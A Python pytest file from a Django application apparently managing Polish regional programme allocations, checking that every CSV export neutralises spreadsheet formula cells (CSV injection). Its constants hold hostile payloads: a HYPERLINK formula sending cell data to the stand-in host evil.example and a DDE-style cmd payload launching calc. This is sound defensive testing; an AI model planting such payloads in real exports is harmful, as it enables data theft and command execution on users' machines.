"""Every CSV export neutralises formula cells (OWASP "CSV injection", issue 10 finding 3).

The exports are discovered by walking the URL resolver (every route named `*-export`, every
route ending in `.csv` or taking a `fmt`), so a new export that this file does not download
fails `test_every_csv_export_is_checked`. Hostile values are seeded into what each export shows
— a gmina's and a voivodeship's name, a strategy's title, a user's name, a catalogue name, a
programme's name, an audit actor, an exchange-rate table — and each export is downloaded as a
role that may: no cell may start with = + - @ tab or CR unless prefixed with an apostrophe (a
plain number such as -5,00 stays a number), and each export must show a neutralised cell, so
the test fails if the neutralising in core/exports.py is taken away.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from integra.accounts.models import User
from integra.action_plans import services as plan_services
from integra.action_plans.tests.factories import (
    AS_OF,
    content,
    make_catalogue,
    make_programme,
    make_rates,
    make_strategy,
)
from integra.allocations import services as allocation_services
from integra.allocations.models import AllocationRun, Tranche
from integra.allocations.services.published import schedule_tranches
from integra.catalog.services import ServiceTypeSpec, create_service_type
from integra.contracts.models import ProcurementRound
from integra.core.actors import SystemActor
from integra.programmes.models import ExchangeRate, Programme
from integra.providers.tests.factories import make_provider
from integra.strategies.models import Strategy
from integra.territories.models import Territory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Kliknij")'
PLUS, MINUS, AT = "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[-+]?\d[\d \u00a0]*([.,]\d+)?$")


def _routes(resolvers, namespace: str = "", prefix: str = ""):
    """(namespaced name, route) of every URL pattern, included ones too."""
    for entry in resolvers:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _routes(entry.url_patterns, inner, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{namespace}{entry.name}", prefix + str(entry.pattern)


def csv_routes() -> set[str]:
    """Every route that can answer CSV: named `*-export`, ending in `.csv`, or taking a format."""
    return {
        name
        for name, route in _routes(get_resolver().url_patterns)
        if name.endswith("-export") or route.endswith(".csv") or "<str:fmt>" in route
    }


@pytest.fixture
def hostile(personas, small_tree):
    """A world whose every export has something to show, with hostile text in each place."""
    make_rates()
    catalogue = make_catalogue()
    made = make_strategy(small_tree["1001022"])
    strategy = made.strategy
    programme = make_programme(small_tree)
    world = SimpleNamespace(
        programme=programme,
        gmina=small_tree["1001022"],
        catalogue=catalogue,
        strategy=strategy,
        goal=made.operational,
        people=personas,
    )
    version = plan_services.create_action_plan(
        actor=personas.coordinator, programme=programme, gmina=world.gmina, year=2007, as_of=AS_OF
    )
    version = plan_services.save_plan_version(
        actor=personas.coordinator,
        version=version,
        content=content(world),
        lock_version=version.lock_version,
    )
    version = plan_services.submit_plan_version(actor=personas.coordinator, version=version)
    # A procurement round and a provider whose title and name read as formulas.
    ProcurementRound.objects.create(
        programme=programme,
        gmina=world.gmina,
        plan=version.plan,
        built_from=version,
        number=1,
        title=PLUS,
        deadline_at=timezone.now() + dt.timedelta(days=14),
        meeting_at=timezone.now() + dt.timedelta(days=7),
        meeting_place=AT,
    )
    make_provider("1001022", name=AT)
    published = AllocationRun.objects.get(programme=programme, status="published")
    schedule_tranches(published)
    ExchangeRate.objects.update(table_no=MINUS)
    allocation_services.record_transfer(
        actor=SystemActor("test"),
        tranche=Tranche.objects.get(result__run=published, gmina=world.gmina, number=1),
        amount_pln=Decimal("4000.00"),
        transferred_on=dt.date(2007, 3, 2),
    )
    draft = allocation_services.create_run(
        actor=SystemActor(HYPERLINK),
        programme=programme,
        params=allocation_services.RunParameters(method="equal", budget=Decimal("24000")),
    )
    create_service_type(
        actor=SystemActor(HYPERLINK),
        spec=ServiceTypeSpec(
            code="OS-99", name_pl=MINUS, name_en=PLUS, groups=[catalogue.OS], description=AT
        ),
    )
    # Names and titles as a careless or hostile user could have typed them earlier.
    Territory.objects.filter(teryt="1001022").update(name=HYPERLINK)
    Territory.objects.filter(teryt="10").update(name=PLUS)
    Strategy.objects.filter(pk=strategy.pk).update(title=AT)
    Programme.objects.filter(pk=programme.pk).update(name="\tPIS")
    User.objects.filter(username="coordinator").update(first_name=PLUS, last_name=MINUS)
    # A programme whose code reads as a formula, with a run of its own (the runs' export shows
    # only codes, numbers and labels).
    other = Programme.objects.create(
        code="=1+2",
        name=AT,
        starts_on=dt.date(2011, 1, 1),
        ends_on=dt.date(2013, 12, 31),
        budget_eur=Decimal(0),
    )
    AllocationRun.objects.create(
        programme=other, method="equal", data_year=2010, budget_eur=0, created_by_label="test"
    )
    return SimpleNamespace(published=published, draft=draft)


def exports(hostile) -> dict[str, tuple[str, dict]]:
    """namespaced route name → (persona who may download it, URL kwargs)."""
    runs = {"a": hostile.published.pk, "b": hostile.draft.pk, "fmt": "csv"}
    return {
        "accounts:user-export": ("admin", {"fmt": "csv"}),
        "action_plans:action-plan-export": ("admin", {"fmt": "csv"}),
        "action_plans:review-queue-export": ("consultant", {"fmt": "csv"}),
        "allocations:run-export": ("admin", {"fmt": "csv"}),
        "allocations:run-results-export": ("admin", {"pk": hostile.published.pk, "fmt": "csv"}),
        "allocations:compare-gminas-export": ("admin", runs),
        "allocations:compare-voivodeships-export": ("admin", runs),
        "allocations:tranche-export": ("admin", {"teryt": "1001022", "code": "PIS", "fmt": "csv"}),
        "audit:event-export": ("admin", {}),
        "catalog:service-type-export": ("admin", {"fmt": "csv"}),
        "contracts:register-export": ("admin", {"kind": "nabory", "fmt": "csv"}),
        "dashboards:programme-overview-export": ("admin", {"code": "PIS", "fmt": "csv"}),
        "dashboards:allocation-map-export": ("admin", {"code": "PIS", "fmt": "csv"}),
        "providers:provider-export": ("admin", {"fmt": "csv"}),
        "strategies:strategy-export": ("admin", {"fmt": "csv"}),
        "territories:territory-export": ("admin", {"fmt": "csv"}),
    }


def cells_of(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";")
    return [value for row in rows for value in row]


def runnable(value: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(value)


def test_every_csv_export_is_checked(hostile):
    assert csv_routes() == set(exports(hostile))


@pytest.mark.parametrize(
    "name",
    [
        "accounts:user-export",
        "action_plans:action-plan-export",
        "action_plans:review-queue-export",
        "allocations:run-export",
        "allocations:run-results-export",
        "allocations:compare-gminas-export",
        "allocations:compare-voivodeships-export",
        "allocations:tranche-export",
        "audit:event-export",
        "catalog:service-type-export",
        "contracts:register-export",
        "dashboards:programme-overview-export",
        "dashboards:allocation-map-export",
        "providers:provider-export",
        "strategies:strategy-export",
        "territories:territory-export",
    ],
)
def test_no_exported_cell_runs_as_a_formula(hostile, personas, signed_in, name):
    persona, kwargs = exports(hostile)[name]

    response = signed_in(getattr(personas, persona)).get(reverse(name, kwargs=kwargs))

    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    cells = cells_of(response)
    assert [value for value in cells if runnable(value)] == []
    # The seeding reached this export: at least one hostile value came out neutralised.
    assert any(value.startswith("'") and runnable(value[1:]) for value in cells), cells[:40]
